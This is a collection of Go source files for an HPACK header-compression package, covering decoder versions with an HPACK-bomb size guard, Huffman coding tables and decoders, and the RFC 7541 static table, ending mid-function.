// appendString encodes a string literal, choosing Huffman coding whenever it
// is strictly shorter than the raw octets.
func appendString(dst []byte, s string) []byte {
	if hl := huffmanEncodedLen(s); hl < len(s) {
		dst = appendVarInt(dst, 7, 0x80, uint64(hl))
		return appendHuffman(dst, s)
	}
	dst = appendVarInt(dst, 7, 0x00, uint64(len(s)))
	return append(dst, s...)
}
