package hpack

import (
	"errors"
	"fmt"
)

// Decoder decodes complete header blocks. A Decoder maintains one dynamic
// table and therefore belongs to exactly one HTTP/2 connection direction.
// It is not safe for concurrent use.
type Decoder struct {
	dt *dynamicTable

	// allowedMaxSize caps dynamic-table size updates; it tracks the local
	// SETTINGS_HEADER_TABLE_SIZE value.
	allowedMaxSize uint32
	// maxStringLen bounds individual decoded string literals; 0 means no
	// bound beyond sanity.
	maxStringLen int
	// maxHeaderListSize bounds the cumulative RFC 7541 section 4.1 size
	// (name + value + 32 per field) of one decoded block; 0 means
	// unbounded. This is the HPACK-bomb defense: a few-KiB block of
	// indexed references to a large dynamic-table entry can expand
	// thousandsfold, so the bound is enforced against decoded size as
	// decoding proceeds, not against the wire block.
	maxHeaderListSize uint32

	// huf is the scratch buffer for Huffman-decoded string literals, reused
	// across calls so steady-state decoding performs no per-string
	// allocations.
	huf []byte
	// interns dedupes decoded strings: static-table names/values are seeded
	// at construction and strings seen on this connection are added up to a
	// budget, so repeated header fields (the paper's H-identical-requests
	// compression probe) resolve to the same string without allocating.
	// Lookup via interns[string(b)] does not allocate (the compiler elides
	// the conversion for map access).
	interns     map[string]string
	internBytes int
}

// internMaxStringLen caps the length of a single interned string; longer
// literals (cookies, long URLs) are unlikely to repeat verbatim and would
// burn the budget.
const internMaxStringLen = 256

// internBudget caps the total bytes of connection-local interned strings, so
// a hostile peer streaming unique headers cannot grow the map unboundedly.
const internBudget = 64 << 10

// NewDecoder returns a decoder whose dynamic table is capped at
// maxDynamicTableSize (use DefaultDynamicTableSize for the RFC default).
func NewDecoder(maxDynamicTableSize uint32) *Decoder {
	interns := make(map[string]string, 2*len(staticTable))
	for _, hf := range staticTable {
		interns[hf.Name] = hf.Name
		if hf.Value != "" {
			interns[hf.Value] = hf.Value
		}
	}
	return &Decoder{
		dt:             newDynamicTable(maxDynamicTableSize),
		allowedMaxSize: maxDynamicTableSize,
		interns:        interns,
	}
}

// intern returns b as a string, reusing a previously allocated copy when the
// same bytes were seen before on this decoder.
func (d *Decoder) intern(b []byte) string {
	if s, ok := d.interns[string(b)]; ok {
		return s
	}
	//h2lint:ignore hotalloc one-time copy on an intern miss; repeated field values hit the cache above
	s := string(b)
	if len(s) <= internMaxStringLen && d.internBytes+len(s) <= internBudget {
		d.interns[s] = s
		d.internBytes += len(s)
	}
	return s
}

// SetMaxStringLength bounds the length of any single decoded string.
func (d *Decoder) SetMaxStringLength(n int) { d.maxStringLen = n }

// SetMaxHeaderListSize bounds the decoded (not encoded) size of one header
// block, measured as RFC 7541 section 4.1 defines (name + value + 32 octets
// per field). Decoding a block that expands past the bound fails with
// ErrHeaderListSize; receivers treat that like any other decoding error
// (COMPRESSION_ERROR), which is what neutralizes HPACK bombs. Zero disables
// the bound.
func (d *Decoder) SetMaxHeaderListSize(n uint32) { d.maxHeaderListSize = n }

// SetAllowedMaxDynamicTableSize updates the ceiling the peer may raise the
// dynamic table to, mirroring a SETTINGS_HEADER_TABLE_SIZE change.
func (d *Decoder) SetAllowedMaxDynamicTableSize(n uint32) {
	d.allowedMaxSize = n
	if d.dt.maxSize > n {
		d.dt.setMaxSize(n)
	}
}

// DynamicTableLen returns the number of entries currently in the decoder's
// dynamic table.
func (d *Decoder) DynamicTableLen() int { return d.dt.length() }

// DecodeFull decodes one complete header block into a fresh slice.
func (d *Decoder) DecodeFull(block []byte) ([]HeaderField, error) {
	return d.DecodeAppend(nil, block)
}

// DecodeAppend decodes one complete header block, appending the decoded
// fields to fields and returning the extended slice. Passing a slice with
// retained capacity (fields[:0]) makes steady-state decoding of repeated
// blocks allocation-free: field strings come from the static table, the
// dynamic table, or the decoder's intern cache.
func (d *Decoder) DecodeAppend(fields []HeaderField, block []byte) ([]HeaderField, error) {
	var (
		seenField  bool
		err        error
		hf         HeaderField
		emitted    bool
		sizeUpdate bool
		listSize   uint64
	)
	for len(block) > 0 {
		b := block[0]
		switch {
		case b&0x80 != 0: // indexed field
			hf, block, err = d.readIndexed(block)
			emitted, sizeUpdate = true, false
		case b&0xc0 == 0x40: // literal with incremental indexing
			hf, block, err = d.readLiteral(block, 6)
			if err == nil {
				d.dt.add(hf)
			}
			emitted, sizeUpdate = true, false
		case b&0xe0 == 0x20: // dynamic table size update
			block, err = d.readSizeUpdate(block)
			emitted, sizeUpdate = false, true
		case b&0xf0 == 0x10: // literal never indexed
			hf, block, err = d.readLiteral(block, 4)
			hf.Sensitive = true
			emitted, sizeUpdate = true, false
		default: // 0000xxxx: literal without indexing
			hf, block, err = d.readLiteral(block, 4)
			emitted, sizeUpdate = true, false
		}
		if err != nil {
			return fields, err
		}
		if sizeUpdate && seenField {
			return fields, DecodingError{errors.New("dynamic table size update after header fields")}
		}
		if emitted {
			if d.maxHeaderListSize > 0 {
				listSize += uint64(hf.Size())
				if listSize > uint64(d.maxHeaderListSize) {
					return fields, DecodingError{fmt.Errorf("%w: %d > %d octets", ErrHeaderListSize, listSize, d.maxHeaderListSize)}
				}
			}
			fields = append(fields, hf)
			seenField = true
		}
	}
	return fields, nil
}

func (d *Decoder) readIndexed(buf []byte) (HeaderField, []byte, error) {
	idx, rest, err := readVarInt(buf, 7)
	if err != nil {
		return HeaderField{}, nil, err
	}
	hf, ok := d.dt.lookup(idx)
	if !ok {
		return HeaderField{}, nil, DecodingError{fmt.Errorf("%w: %d", ErrInvalidIndex, idx)}
	}
	return hf, rest, nil
}

func (d *Decoder) readLiteral(buf []byte, prefix uint8) (HeaderField, []byte, error) {
	nameIdx, rest, err := readVarInt(buf, prefix)
	if err != nil {
		return HeaderField{}, nil, err
	}
	var hf HeaderField
	if nameIdx != 0 {
		ent, ok := d.dt.lookup(nameIdx)
		if !ok {
			return HeaderField{}, nil, DecodingError{fmt.Errorf("%w: name index %d", ErrInvalidIndex, nameIdx)}
		}
		hf.Name = ent.Name
	} else {
		hf.Name, rest, err = d.readString(rest)
		if err != nil {
			return HeaderField{}, nil, err
		}
	}
	hf.Value, rest, err = d.readString(rest)
	if err != nil {
		return HeaderField{}, nil, err
	}
	return hf, rest, nil
}

func (d *Decoder) readString(buf []byte) (string, []byte, error) {
	if len(buf) == 0 {
		return "", nil, DecodingError{errors.New("truncated string literal")}
	}
	huffman := buf[0]&0x80 != 0
	n, rest, err := readVarInt(buf, 7)
	if err != nil {
		return "", nil, err
	}
	if d.maxStringLen > 0 && n > uint64(d.maxStringLen) {
		return "", nil, DecodingError{ErrStringLength}
	}
	if n > uint64(len(rest)) {
		return "", nil, DecodingError{errors.New("string literal exceeds block")}
	}
	raw := rest[:n]
	rest = rest[n:]
	if !huffman {
		return d.intern(raw), rest, nil
	}
	d.huf, err = decodeHuffman(d.huf[:0], raw)
	if err != nil {
		return "", nil, DecodingError{err}
	}
	if d.maxStringLen > 0 && len(d.huf) > d.maxStringLen {
		return "", nil, DecodingError{ErrStringLength}
	}
	return d.intern(d.huf), rest, nil
}

func (d *Decoder) readSizeUpdate(buf []byte) ([]byte, error) {
	n, rest, err := readVarInt(buf, 5)
	if err != nil {
		return nil, err
	}
	if n > uint64(d.allowedMaxSize) {
		return nil, DecodingError{fmt.Errorf("table size update %d above allowed %d", n, d.allowedMaxSize)}
	}
	d.dt.setMaxSize(uint32(n))
	return rest, nil
}
