package hpack

import (
	"errors"
	"fmt"
)

// Decoder decodes complete header blocks. A Decoder maintains one dynamic
// table and therefore belongs to exactly one HTTP/2 connection direction.
// It is not safe for concurrent use.
type Decoder struct {
	dt *dynamicTable

	// allowedMaxSize caps dynamic-table size updates; it tracks the local
	// SETTINGS_HEADER_TABLE_SIZE value.
	allowedMaxSize uint32
	// maxStringLen bounds individual decoded string literals; 0 means no
	// bound beyond sanity.
	maxStringLen int
}

// NewDecoder returns a decoder whose dynamic table is capped at
// maxDynamicTableSize (use DefaultDynamicTableSize for the RFC default).
func NewDecoder(maxDynamicTableSize uint32) *Decoder {
	return &Decoder{
		dt:             newDynamicTable(maxDynamicTableSize),
		allowedMaxSize: maxDynamicTableSize,
	}
}

// SetMaxStringLength bounds the length of any single decoded string.
func (d *Decoder) SetMaxStringLength(n int) { d.maxStringLen = n }

// SetAllowedMaxDynamicTableSize updates the ceiling the peer may raise the
// dynamic table to, mirroring a SETTINGS_HEADER_TABLE_SIZE change.
func (d *Decoder) SetAllowedMaxDynamicTableSize(n uint32) {
	d.allowedMaxSize = n
	if d.dt.maxSize > n {
		d.dt.setMaxSize(n)
	}
}

// DynamicTableLen returns the number of entries currently in the decoder's
// dynamic table.
func (d *Decoder) DynamicTableLen() int { return d.dt.length() }

// DecodeFull decodes one complete header block.
func (d *Decoder) DecodeFull(block []byte) ([]HeaderField, error) {
	var (
		fields     []HeaderField
		seenField  bool
		err        error
		hf         HeaderField
		emitted    bool
		sizeUpdate bool
	)
	for len(block) > 0 {
		b := block[0]
		switch {
		case b&0x80 != 0: // indexed field
			hf, block, err = d.readIndexed(block)
			emitted, sizeUpdate = true, false
		case b&0xc0 == 0x40: // literal with incremental indexing
			hf, block, err = d.readLiteral(block, 6)
			if err == nil {
				d.dt.add(hf)
			}
			emitted, sizeUpdate = true, false
		case b&0xe0 == 0x20: // dynamic table size update
			block, err = d.readSizeUpdate(block)
			emitted, sizeUpdate = false, true
		case b&0xf0 == 0x10: // literal never indexed
			hf, block, err = d.readLiteral(block, 4)
			hf.Sensitive = true
			emitted, sizeUpdate = true, false
		default: // 0000xxxx: literal without indexing
			hf, block, err = d.readLiteral(block, 4)
			emitted, sizeUpdate = true, false
		}
		if err != nil {
			return fields, err
		}
		if sizeUpdate && seenField {
			return fields, DecodingError{errors.New("dynamic table size update after header fields")}
		}
		if emitted {
			fields = append(fields, hf)
			seenField = true
		}
	}
	return fields, nil
}

func (d *Decoder) readIndexed(buf []byte) (HeaderField, []byte, error) {
	idx, rest, err := readVarInt(buf, 7)
	if err != nil {
		return HeaderField{}, nil, err
	}
	hf, ok := d.dt.lookup(idx)
	if !ok {
		return HeaderField{}, nil, DecodingError{fmt.Errorf("%w: %d", ErrInvalidIndex, idx)}
	}
	return hf, rest, nil
}

func (d *Decoder) readLiteral(buf []byte, prefix uint8) (HeaderField, []byte, error) {
	nameIdx, rest, err := readVarInt(buf, prefix)
	if err != nil {
		return HeaderField{}, nil, err
	}
	var hf HeaderField
	if nameIdx != 0 {
		ent, ok := d.dt.lookup(nameIdx)
		if !ok {
			return HeaderField{}, nil, DecodingError{fmt.Errorf("%w: name index %d", ErrInvalidIndex, nameIdx)}
		}
		hf.Name = ent.Name
	} else {
		hf.Name, rest, err = d.readString(rest)
		if err != nil {
			return HeaderField{}, nil, err
		}
	}
	hf.Value, rest, err = d.readString(rest)
	if err != nil {
		return HeaderField{}, nil, err
	}
	return hf, rest, nil
}

func (d *Decoder) readString(buf []byte) (string, []byte, error) {
	if len(buf) == 0 {
		return "", nil, DecodingError{errors.New("truncated string literal")}
	}
	huffman := buf[0]&0x80 != 0
	n, rest, err := readVarInt(buf, 7)
	if err != nil {
		return "", nil, err
	}
	if d.maxStringLen > 0 && n > uint64(d.maxStringLen) {
		return "", nil, DecodingError{ErrStringLength}
	}
	if n > uint64(len(rest)) {
		return "", nil, DecodingError{errors.New("string literal exceeds block")}
	}
	raw := rest[:n]
	rest = rest[n:]
	if !huffman {
		return string(raw), rest, nil
	}
	decoded, err := decodeHuffman(nil, raw)
	if err != nil {
		return "", nil, DecodingError{err}
	}
	if d.maxStringLen > 0 && len(decoded) > d.maxStringLen {
		return "", nil, DecodingError{ErrStringLength}
	}
	return string(decoded), rest, nil
}

func (d *Decoder) readSizeUpdate(buf []byte) ([]byte, error) {
	n, rest, err := readVarInt(buf, 5)
	if err != nil {
		return nil, err
	}
	if n > uint64(d.allowedMaxSize) {
		return nil, DecodingError{fmt.Errorf("table size update %d above allowed %d", n, d.allowedMaxSize)}
	}
	d.dt.setMaxSize(uint32(n))
	return rest, nil
}
