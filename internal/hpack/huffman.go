package hpack

import "errors"

// huffmanCodes holds the canonical Huffman code for each octet, right-
// aligned, per RFC 7541 Appendix B. The EOS symbol (0x3fffffff, 30 bits) is
// never emitted: encoders pad with its most-significant bits instead.
var huffmanCodes = [256]uint32{
	0x1ff8, 0x7fffd8, 0xfffffe2, 0xfffffe3, 0xfffffe4, 0xfffffe5, 0xfffffe6, 0xfffffe7,
	0xfffffe8, 0xffffea, 0x3ffffffc, 0xfffffe9, 0xfffffea, 0x3ffffffd, 0xfffffeb, 0xfffffec,
	0xfffffed, 0xfffffee, 0xfffffef, 0xffffff0, 0xffffff1, 0xffffff2, 0x3ffffffe, 0xffffff3,
	0xffffff4, 0xffffff5, 0xffffff6, 0xffffff7, 0xffffff8, 0xffffff9, 0xffffffa, 0xffffffb,
	0x14, 0x3f8, 0x3f9, 0xffa, 0x1ff9, 0x15, 0xf8, 0x7fa,
	0x3fa, 0x3fb, 0xf9, 0x7fb, 0xfa, 0x16, 0x17, 0x18,
	0x0, 0x1, 0x2, 0x19, 0x1a, 0x1b, 0x1c, 0x1d,
	0x1e, 0x1f, 0x5c, 0xfb, 0x7ffc, 0x20, 0xffb, 0x3fc,
	0x1ffa, 0x21, 0x5d, 0x5e, 0x5f, 0x60, 0x61, 0x62,
	0x63, 0x64, 0x65, 0x66, 0x67, 0x68, 0x69, 0x6a,
	0x6b, 0x6c, 0x6d, 0x6e, 0x6f, 0x70, 0x71, 0x72,
	0xfc, 0x73, 0xfd, 0x1ffb, 0x7fff0, 0x1ffc, 0x3ffc, 0x22,
	0x7ffd, 0x3, 0x23, 0x4, 0x24, 0x5, 0x25, 0x26,
	0x27, 0x6, 0x74, 0x75, 0x28, 0x29, 0x2a, 0x7,
	0x2b, 0x76, 0x2c, 0x8, 0x9, 0x2d, 0x77, 0x78,
	0x79, 0x7a, 0x7b, 0x7ffe, 0x7fc, 0x3ffd, 0x1ffd, 0xffffffc,
	0xfffe6, 0x3fffd2, 0xfffe7, 0xfffe8, 0x3fffd3, 0x3fffd4, 0x3fffd5, 0x7fffd9,
	0x3fffd6, 0x7fffda, 0x7fffdb, 0x7fffdc, 0x7fffdd, 0x7fffde, 0xffffeb, 0x7fffdf,
	0xffffec, 0xffffed, 0x3fffd7, 0x7fffe0, 0xffffee, 0x7fffe1, 0x7fffe2, 0x7fffe3,
	0x7fffe4, 0x1fffdc, 0x3fffd8, 0x7fffe5, 0x3fffd9, 0x7fffe6, 0x7fffe7, 0xffffef,
	0x3fffda, 0x1fffdd, 0xfffe9, 0x3fffdb, 0x3fffdc, 0x7fffe8, 0x7fffe9, 0x1fffde,
	0x7fffea, 0x3fffdd, 0x3fffde, 0xfffff0, 0x1fffdf, 0x3fffdf, 0x7fffeb, 0x7fffec,
	0x1fffe0, 0x1fffe1, 0x3fffe0, 0x1fffe2, 0x7fffed, 0x3fffe1, 0x7fffee, 0x7fffef,
	0xfffea, 0x3fffe2, 0x3fffe3, 0x3fffe4, 0x7ffff0, 0x3fffe5, 0x3fffe6, 0x7ffff1,
	0x3ffffe0, 0x3ffffe1, 0xfffeb, 0x7fff1, 0x3fffe7, 0x7ffff2, 0x3fffe8, 0x1ffffec,
	0x3ffffe2, 0x3ffffe3, 0x3ffffe4, 0x7ffffde, 0x7ffffdf, 0x3ffffe5, 0xfffff1, 0x1ffffed,
	0x7fff2, 0x1fffe3, 0x3ffffe6, 0x7ffffe0, 0x7ffffe1, 0x3ffffe7, 0x7ffffe2, 0xfffff2,
	0x1fffe4, 0x1fffe5, 0x3ffffe8, 0x3ffffe9, 0xffffffd, 0x7ffffe3, 0x7ffffe4, 0x7ffffe5,
	0xfffec, 0xfffff3, 0xfffed, 0x1fffe6, 0x3fffe9, 0x1fffe7, 0x1fffe8, 0x7ffff3,
	0x3fffea, 0x3fffeb, 0x1ffffee, 0x1ffffef, 0xfffff4, 0xfffff5, 0x3ffffea, 0x7ffff4,
	0x3ffffeb, 0x7ffffe6, 0x3ffffec, 0x3ffffed, 0x7ffffe7, 0x7ffffe8, 0x7ffffe9, 0x7ffffea,
	0x7ffffeb, 0xffffffe, 0x7ffffec, 0x7ffffed, 0x7ffffee, 0x7ffffef, 0x7fffff0, 0x3ffffee,
}

// huffmanCodeLen holds the bit length of each code in huffmanCodes.
var huffmanCodeLen = [256]uint8{
	13, 23, 28, 28, 28, 28, 28, 28, 28, 24, 30, 28, 28, 30, 28, 28,
	28, 28, 28, 28, 28, 28, 30, 28, 28, 28, 28, 28, 28, 28, 28, 28,
	6, 10, 10, 12, 13, 6, 8, 11, 10, 10, 8, 11, 8, 6, 6, 6,
	5, 5, 5, 6, 6, 6, 6, 6, 6, 6, 7, 8, 15, 6, 12, 10,
	13, 6, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7,
	7, 7, 7, 7, 7, 7, 7, 7, 8, 7, 8, 13, 19, 13, 14, 6,
	15, 5, 6, 5, 6, 5, 6, 6, 6, 5, 7, 7, 6, 6, 6, 5,
	6, 7, 6, 5, 5, 6, 7, 7, 7, 7, 7, 15, 11, 14, 13, 28,
	20, 22, 20, 20, 22, 22, 22, 23, 22, 23, 23, 23, 23, 23, 24, 23,
	24, 24, 22, 23, 24, 23, 23, 23, 23, 21, 22, 23, 22, 23, 23, 24,
	22, 21, 20, 22, 22, 23, 23, 21, 23, 22, 22, 24, 21, 22, 23, 23,
	21, 21, 22, 21, 23, 22, 23, 23, 20, 22, 22, 22, 23, 22, 22, 23,
	26, 26, 20, 19, 22, 23, 22, 25, 26, 26, 26, 27, 27, 26, 24, 25,
	19, 21, 26, 27, 27, 26, 27, 24, 21, 21, 26, 26, 28, 27, 27, 27,
	20, 24, 20, 21, 22, 21, 21, 23, 22, 22, 25, 25, 24, 24, 26, 23,
	26, 27, 26, 26, 27, 27, 27, 27, 27, 28, 27, 27, 27, 27, 27, 26,
}

// errInvalidHuffman is returned for malformed Huffman-coded strings,
// including bad EOS padding (RFC 7541 section 5.2).
var errInvalidHuffman = errors.New("hpack: invalid Huffman-coded data")

// huffmanNode is one node of the canonical decode tree. Leaves have
// leaf == true.
type huffmanNode struct {
	children [2]*huffmanNode
	sym      byte
	leaf     bool
}

// huffmanRoot is the decode tree, built once at package initialization from
// the code tables above.
var huffmanRoot = buildHuffmanTree()

func buildHuffmanTree() *huffmanNode {
	root := &huffmanNode{}
	for sym := 0; sym < 256; sym++ {
		code := huffmanCodes[sym]
		n := root
		for bit := int(huffmanCodeLen[sym]) - 1; bit >= 0; bit-- {
			b := (code >> uint(bit)) & 1
			if n.children[b] == nil {
				n.children[b] = &huffmanNode{}
			}
			n = n.children[b]
		}
		n.sym = byte(sym)
		n.leaf = true
	}
	return root
}

// huffmanEncodedLen returns the number of octets s occupies when
// Huffman-coded.
func huffmanEncodedLen(s string) int {
	var bits int
	for i := 0; i < len(s); i++ {
		bits += int(huffmanCodeLen[s[i]])
	}
	return (bits + 7) / 8
}

// appendHuffman Huffman-codes s and appends the octets to dst, padding the
// final partial octet with the EOS prefix (all-ones) per RFC 7541.
func appendHuffman(dst []byte, s string) []byte {
	var (
		acc  uint64
		nacc uint
	)
	for i := 0; i < len(s); i++ {
		b := s[i]
		acc = acc<<uint64(huffmanCodeLen[b]) | uint64(huffmanCodes[b])
		nacc += uint(huffmanCodeLen[b])
		for nacc >= 8 {
			nacc -= 8
			dst = append(dst, byte(acc>>nacc))
		}
	}
	if nacc > 0 {
		// Pad with the most-significant bits of EOS (all ones).
		dst = append(dst, byte(acc<<(8-nacc))|byte(0xff>>nacc))
	}
	return dst
}

// The 4-bit table-driven decoder below replaces the pointer-chasing tree
// walk on the hot path. States are the internal nodes of the canonical
// decode tree; each state has 16 transition entries, one per input nibble.
// Because the shortest Huffman code is 5 bits, a nibble completes at most
// one symbol, so an entry needs only one (sym, emit) pair, packed into a
// uint32:
//
//	bits  0-7: completed symbol, if any
//	bit     8: emit flag
//	bits 16-31: next state
//
// Walking off the code tree (only possible deep inside the EOS code, which
// has no tree presence) transitions to a dead state that absorbs all input
// without emitting and is never accepting, so the hot loop needs no
// invalid-input branch: the error surfaces at the final accept check with
// the same output bytes and error-or-not result as an immediate return.
const huffEmitFlag = 1 << 8

var (
	// huffTable is indexed by state*16 + nibble.
	huffTable []uint32
	// huffAccept marks states legal at end of input: the root (no pending
	// bits) and the all-ones path down to depth 7 — i.e. at most 7 bits of
	// padding, every one of them matching the EOS prefix (RFC 7541 §5.2).
	huffAccept []bool
)

func init() { buildHuffmanTable() }

func buildHuffmanTable() {
	type nodeInfo struct {
		n       *huffmanNode
		depth   int
		allOnes bool
	}
	id := map[*huffmanNode]uint32{huffmanRoot: 0}
	nodes := []nodeInfo{{huffmanRoot, 0, true}}
	for qi := 0; qi < len(nodes); qi++ {
		ni := nodes[qi]
		for b := 0; b < 2; b++ {
			c := ni.n.children[b]
			if c == nil || c.leaf {
				continue
			}
			if _, seen := id[c]; seen {
				continue
			}
			id[c] = uint32(len(nodes))
			nodes = append(nodes, nodeInfo{c, ni.depth + 1, ni.allOnes && b == 1})
		}
	}
	dead := uint32(len(nodes))
	huffTable = make([]uint32, (len(nodes)+1)*16)
	huffAccept = make([]bool, len(nodes)+1)
	for si, ni := range nodes {
		huffAccept[si] = ni.depth == 0 || (ni.allOnes && ni.depth <= 7)
		for nib := 0; nib < 16; nib++ {
			var e uint32
			n := ni.n
			for bit := 3; bit >= 0; bit-- {
				c := n.children[(nib>>uint(bit))&1]
				if c == nil {
					n = nil
					break
				}
				if c.leaf {
					e = uint32(c.sym) | huffEmitFlag
					c = huffmanRoot
				}
				n = c
			}
			if n == nil {
				e = dead << 16 // emit-free: nil children precede any leaf
			} else {
				e |= id[n] << 16
			}
			huffTable[si*16+nib] = e
		}
	}
	for nib := 0; nib < 16; nib++ {
		huffTable[int(dead)*16+nib] = dead << 16
	}
}

// decodeHuffman decodes a Huffman-coded string, appending the octets to dst.
// It is the table-driven hot path; decodeHuffmanTree is the reference tree
// walker the fuzz target cross-checks against.
func decodeHuffman(dst, src []byte) ([]byte, error) {
	tbl := huffTable
	var s uint32
	for _, octet := range src {
		e := tbl[s*16+uint32(octet>>4)]
		if e&huffEmitFlag != 0 {
			dst = append(dst, byte(e))
		}
		e = tbl[(e>>16)*16+uint32(octet&0x0f)]
		if e&huffEmitFlag != 0 {
			dst = append(dst, byte(e))
		}
		s = e >> 16
	}
	if !huffAccept[s] {
		return dst, errInvalidHuffman
	}
	return dst, nil
}

// decodeHuffmanTree decodes by walking the node tree bit by bit. Kept as the
// independent reference implementation for FuzzHuffmanRoundTrip and the
// decode-throughput benchmark baseline.
func decodeHuffmanTree(dst, src []byte) ([]byte, error) {
	n := huffmanRoot
	onesRun := 0 // consecutive 1-bits since the last emitted symbol
	for _, octet := range src {
		for bit := 7; bit >= 0; bit-- {
			b := (octet >> uint(bit)) & 1
			if b == 1 {
				onesRun++
			} else {
				onesRun = 0
			}
			n = n.children[b]
			if n == nil {
				return dst, errInvalidHuffman
			}
			if n.leaf {
				dst = append(dst, n.sym)
				n = huffmanRoot
				onesRun = 0
			}
		}
	}
	// Whatever remains must be a prefix of EOS: strictly fewer than 8 bits,
	// all ones. A longer or non-ones remainder is a coding error.
	if n != huffmanRoot {
		if onesRun == 0 || onesRun > 7 {
			return dst, errInvalidHuffman
		}
		// Verify the pending path is all ones by checking that continuing
		// with 1-bits still descends (EOS is the all-ones path); onesRun
		// counting above already guarantees the consumed tail bits were 1s,
		// but the path could have re-entered after a symbol — ensure the
		// pending depth equals the ones run.
		depth := 0
		probe := huffmanRoot
		for probe != n && depth < 8 {
			probe = probe.children[1]
			if probe == nil {
				return dst, errInvalidHuffman
			}
			depth++
		}
		if probe != n {
			return dst, errInvalidHuffman
		}
	}
	return dst, nil
}
