package hpack

// staticTable is the fixed 61-entry table of RFC 7541 Appendix A.
// staticTable[0] is index 1 on the wire.
var staticTable = [...]HeaderField{
	{Name: ":authority"},
	{Name: ":method", Value: "GET"},
	{Name: ":method", Value: "POST"},
	{Name: ":path", Value: "/"},
	{Name: ":path", Value: "/index.html"},
	{Name: ":scheme", Value: "http"},
	{Name: ":scheme", Value: "https"},
	{Name: ":status", Value: "200"},
	{Name: ":status", Value: "204"},
	{Name: ":status", Value: "206"},
	{Name: ":status", Value: "304"},
	{Name: ":status", Value: "400"},
	{Name: ":status", Value: "404"},
	{Name: ":status", Value: "500"},
	{Name: "accept-charset"},
	{Name: "accept-encoding", Value: "gzip, deflate"},
	{Name: "accept-language"},
	{Name: "accept-ranges"},
	{Name: "accept"},
	{Name: "access-control-allow-origin"},
	{Name: "age"},
	{Name: "allow"},
	{Name: "authorization"},
	{Name: "cache-control"},
	{Name: "content-disposition"},
	{Name: "content-encoding"},
	{Name: "content-language"},
	{Name: "content-length"},
	{Name: "content-location"},
	{Name: "content-range"},
	{Name: "content-type"},
	{Name: "cookie"},
	{Name: "date"},
	{Name: "etag"},
	{Name: "expect"},
	{Name: "expires"},
	{Name: "from"},
	{Name: "host"},
	{Name: "if-match"},
	{Name: "if-modified-since"},
	{Name: "if-none-match"},
	{Name: "if-range"},
	{Name: "if-unmodified-since"},
	{Name: "last-modified"},
	{Name: "link"},
	{Name: "location"},
	{Name: "max-forwards"},
	{Name: "proxy-authenticate"},
	{Name: "proxy-authorization"},
	{Name: "range"},
	{Name: "referer"},
	{Name: "refresh"},
	{Name: "retry-after"},
	{Name: "server"},
	{Name: "set-cookie"},
	{Name: "strict-transport-security"},
	{Name: "transfer-encoding"},
	{Name: "user-agent"},
	{Name: "vary"},
	{Name: "via"},
	{Name: "www-authenticate"},
}

// staticTableLen is the number of entries in the static table (61).
const staticTableLen = len(staticTable)

// pair keys the exact-match lookup maps.
type pair struct{ name, value string }

var (
	// staticByPair maps name/value to the 1-based static index of an exact match.
	staticByPair = buildStaticByPair()
	// staticByName maps a name to the 1-based static index of its first entry.
	staticByName = buildStaticByName()
)

func buildStaticByPair() map[pair]uint64 {
	m := make(map[pair]uint64, staticTableLen)
	for i, hf := range staticTable {
		p := pair{hf.Name, hf.Value}
		if _, ok := m[p]; !ok {
			m[p] = uint64(i + 1)
		}
	}
	return m
}

func buildStaticByName() map[string]uint64 {
	m := make(map[string]uint64, staticTableLen)
	for i, hf := range staticTable {
		if _, ok := m[hf.Name]; !ok {
			m[hf.Name] = uint64(i + 1)
		}
	}
	return m
}
