// Package hpack implements HPACK header compression for HTTP/2 as specified
// by RFC 7541.
//
// It is a from-scratch implementation: the static table, the dynamic table
// with eviction, the N-bit-prefix integer primitive, Huffman-coded string
// literals, an Encoder with a configurable indexing policy, and a Decoder.
//
// The configurable indexing policy exists because the paper's Figs. 4 and 5
// hinge on a real-world divergence: Nginx/Tengine never insert *response*
// header fields into the dynamic table (their compression ratio r is ~1 for
// repeated responses), while GSE/LiteSpeed index aggressively (r < 0.3).
// Server behavior profiles select a policy to reproduce exactly that.
package hpack

import (
	"errors"
	"fmt"
)

// HeaderField is a single name/value pair.
type HeaderField struct {
	Name, Value string
	// Sensitive marks the field never-indexed (RFC 7541 section 6.2.3):
	// encoded with the never-indexed literal representation and excluded
	// from the dynamic table.
	Sensitive bool
}

// String renders the field for logs.
func (hf HeaderField) String() string {
	suffix := ""
	if hf.Sensitive {
		suffix = " (sensitive)"
	}
	return fmt.Sprintf("%s: %s%s", hf.Name, hf.Value, suffix)
}

// Size returns the field's size per RFC 7541 section 4.1: name length plus
// value length plus 32 octets of bookkeeping overhead.
func (hf HeaderField) Size() uint32 {
	return uint32(len(hf.Name) + len(hf.Value) + 32)
}

// DecodingError wraps any error encountered while decoding a header block.
// RFC 7541 treats every decoding error as a COMPRESSION_ERROR connection
// error; the caller maps this type accordingly.
type DecodingError struct {
	Err error
}

// Error implements the error interface.
func (e DecodingError) Error() string { return fmt.Sprintf("hpack: decoding error: %v", e.Err) }

// Unwrap supports errors.Is/As.
func (e DecodingError) Unwrap() error { return e.Err }

// ErrStringLength is returned when a string literal exceeds the decoder's
// configured limit.
var ErrStringLength = errors.New("hpack: string literal too long")

// ErrHeaderListSize is returned when a decoded header block expands past
// the decoder's SetMaxHeaderListSize bound (the HPACK-bomb guard).
var ErrHeaderListSize = errors.New("hpack: decoded header list too large")

// ErrInvalidIndex is returned when an indexed representation references a
// table slot that does not exist.
var ErrInvalidIndex = errors.New("hpack: invalid table index")

// appendVarInt encodes n using the N-bit prefix integer representation of
// RFC 7541 section 5.1 and appends it to dst. first carries the bits that
// share the first octet with the prefix (representation tag bits).
func appendVarInt(dst []byte, prefixBits uint8, first byte, n uint64) []byte {
	limit := uint64(1)<<prefixBits - 1
	if n < limit {
		return append(dst, first|byte(n))
	}
	dst = append(dst, first|byte(limit))
	n -= limit
	for n >= 128 {
		dst = append(dst, byte(n&0x7f)|0x80)
		n >>= 7
	}
	return append(dst, byte(n))
}

// readVarInt decodes an N-bit prefix integer from buf, returning the value
// and the remaining bytes.
func readVarInt(buf []byte, prefixBits uint8) (uint64, []byte, error) {
	if len(buf) == 0 {
		return 0, nil, DecodingError{errors.New("truncated integer")}
	}
	limit := uint64(1)<<prefixBits - 1
	n := uint64(buf[0]) & limit
	buf = buf[1:]
	if n < limit {
		return n, buf, nil
	}
	var shift uint
	for {
		if len(buf) == 0 {
			return 0, nil, DecodingError{errors.New("truncated integer continuation")}
		}
		b := buf[0]
		buf = buf[1:]
		n += uint64(b&0x7f) << shift
		shift += 7
		if b&0x80 == 0 {
			break
		}
		if shift > 62 {
